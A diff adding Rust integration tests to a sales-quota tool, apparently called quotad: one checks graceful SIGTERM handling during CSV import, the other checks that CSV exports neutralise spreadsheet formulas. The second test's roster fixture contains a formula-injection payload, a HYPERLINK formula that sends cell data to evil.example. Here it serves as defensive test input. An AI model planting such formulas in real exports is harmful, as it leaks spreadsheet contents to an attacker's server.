@@ -410,3 +410,88 @@ fn while_delivery_backs_off_the_daemon_keeps_its_calendar_and_imports_a_new_file
     assert!(took < Duration::from_secs(3), "{took:?}");
     assert_eq!(silent.accepted(), 1, "one connection: the retry waits for its backoff");
 }
+
+#[test]
+fn sigterm_to_import_finishes_the_file_in_hand_and_leaves_the_rest_in_the_inbox_for_the_next_import() {
+    let env = Env::new(&config(""));
+    env.put("roster.csv", ROSTER);
+    let reps = ["ann@example.com", "bob@example.com", "cy@example.com"];
+    for f in 1..=3 {
+        let mut csv = String::from("Deal ID,Rep Email,Stage,Close Date,Sale Price\n");
+        for i in 0..60_000 {
+            csv.push_str(&format!("F{f}-{i},{},Closed Won,2026-03-{:02},{}.00\n", reps[i % 3], 1 + i % 28, 1000 + i));
+        }
+        env.put(&format!("deals-{f}.csv"), csv);
+    }
+    let mut child = env.spawn("import", &["import"], &[]);
+    std::thread::sleep(Duration::from_millis(400));
+    let (code, _) = stop(&mut child, "TERM", Duration::from_secs(60));
+    let out = read(&env, "import.out");
+    assert_eq!(code, 143, "{out}{}", read(&env, "import.err"));
+    let left = out.matches("left in the inbox for the next import").count();
+    assert!(left >= 1, "{out}");
+    // Each file is imported whole or not at all, and the next import takes the rest.
+    let stored = env.store().counts().unwrap().0;
+    assert_eq!(stored % 60_000, 0, "{stored} rows: a file cut in half? {out}");
+    assert_eq!(stored as usize, (3 - left.min(3)) * 60_000, "{out}");
+    let r = env.quotad(&["import"]);
+    assert_eq!(r.code, 0, "{r:?}");
+    assert_eq!(env.store().counts().unwrap().0, 180_000);
+    assert_eq!(env.files_in("archive"), ["deals-1.csv", "deals-2.csv", "deals-3.csv", "roster.csv"]);
+}
+
+// ---------------------------------------------------------------------------------
+// 5. Formulas in someone else's spreadsheet.
+
+#[test]
+fn standings_csv_neutralises_cells_a_spreadsheet_would_run_and_json_keeps_them_exact() {
+    let env = Env::new(&config(""));
+    env.put(
+        "roster.csv",
+        "Rep ID,Name,Email,Team,Manager,Manager Email,Hire Date,Status
+R1,\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Click\"\")\",ann@example.com,North,Mia Boss,mia@example.com,2020-01-06,Active
+R2,@SUM(A1:A9),bob@example.com,+North,Mia Boss,mia@example.com,2021-02-01,Active
+R3,-Cy Cole,cy@example.com,South,Max Chief,max@example.com,2019-05-20,Active
+",
+    );
+    env.put("quotas.csv", "Rep Email,Month,Revenue Quota\nann@example.com,2026-03,400000\nbob@example.com,2026-03,250000\ncy@example.com,2026-03,300000\n");
+    env.put(
+        "deals.csv",
+        "Deal ID,Rep Email,Stage,Close Date,Sale Price\nD1,ann@example.com,Closed Won,2026-03-02,300000\nD2,bob@example.com,Closed Won,2026-03-05,250000\nD9,cy@example.com,Cancelled,2026-03-09,125000\n",
+    );
+    assert_eq!(env.quotad(&["import"]).code, 0);
+    let csv = env.quotad(&["standings", "--period", "2026-03", "--format", "csv"]);
+    assert_eq!(csv.code, 0, "{csv:?}");
+    let mut rdr = csv::ReaderBuilder::new().from_reader(csv.stdout.as_bytes());
+    let header: Vec<String> = rdr.headers().unwrap().iter().map(String::from).collect();
+    let col = |n: &str| header.iter().position(|h| h == n).unwrap();
+    let rows: Vec<csv::StringRecord> = rdr.records().map(Result::unwrap).collect();
+    let names: std::collections::BTreeSet<&str> = rows.iter().map(|r| &r[col("name")]).collect();
+    assert_eq!(
+        names.into_iter().collect::<Vec<_>>(),
+        ["'-Cy Cole", "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "'@SUM(A1:A9)"]
+    );
+    let bob = rows.iter().find(|r| &r[col("rep_id")] == "R2").unwrap();
+    assert_eq!(&bob[col("team")], "'+North");
+    // Numbers stay numbers: a negative revenue is not a formula.
+    let cy = rows.iter().find(|r| &r[col("rep_id")] == "R3").unwrap();
+    assert_eq!(&cy[col("revenue")], "-125000");
+    // No cell of the CSV starts with a character a spreadsheet would evaluate, except
+    // numbers written by quotad.
+    for r in &rows {
+        for (i, cell) in r.iter().enumerate() {
+            if ["revenue", "units", "revenue_quota", "attainment", "attainment_pct", "pace", "movement"]
+                .contains(&header[i].as_str())
+            {
+                continue;
+            }
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{}: {cell:?}", header[i]);
+        }
+    }
+    let json = env.quotad(&["standings", "--period", "2026-03", "--format", "json"]);
+    let v: serde_json::Value = serde_json::from_str(&json.stdout).unwrap();
+    let ann = v.as_array().unwrap().iter().find(|r| r["rep_id"] == "R1").unwrap();
+    assert_eq!(ann["name"], "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "JSON is exact");
+    let bob = v.as_array().unwrap().iter().find(|r| r["rep_id"] == "R2").unwrap();
+    assert_eq!(bob["team"], "+North");
+}
